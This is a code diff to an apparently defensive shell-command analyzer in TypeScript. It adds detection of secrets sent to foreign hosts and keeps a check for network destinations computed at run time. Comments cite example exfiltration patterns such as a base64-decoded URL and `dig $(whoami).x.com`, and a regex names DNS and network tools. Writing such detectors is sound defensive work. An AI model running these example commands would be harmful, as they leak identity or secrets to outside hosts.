@@ -2,6 +2,7 @@ import type { Analysis } from '../../domain/analysis.js';
 import type { SimpleCommand } from '../shell/extract.js';
 import type { Arg } from '../shell/words.js';
 import { dangerous, unsure } from '../verdicts.js';
+import { judgeSecretDestination } from './exfil-destinations.js';
 
 /**
  * Secrets printed from the environment. A command whose OUTPUT carries the value of a
@@ -219,8 +220,18 @@ export function judgeSecretOutput(
       );
 }
 
-/** A network destination computed by a command at run time (`https://$(echo … | base64 -d)/x`, `dig $(whoami).x.com`). */
+/**
+ * Where a network command sends data: secret variables to a foreign host or inside a host name
+ * (see exfil-destinations.ts), or a host computed at run time.
+ */
 export function judgeDestination(name: string, args: readonly Arg[]): Analysis | undefined {
+  const secret = judgeSecretDestination(name, args, isSecretName);
+  if (secret?.kind === 'dangerous') return secret;
+  return computedDestination(name, args) ?? secret;
+}
+
+/** A network destination computed by a command at run time (`https://$(echo … | base64 -d)/x`, `dig $(whoami).x.com`). */
+function computedDestination(name: string, args: readonly Arg[]): Analysis | undefined {
   const substituted = (v: string) => /\$\(|`/.test(v);
   const computed = /^(dig|nslookup|host|drill|ping|ping6|traceroute|whois)$/.test(name)
     ? args.find((a) => a.dynamic && !a.value.startsWith('-') && substituted(a.value))
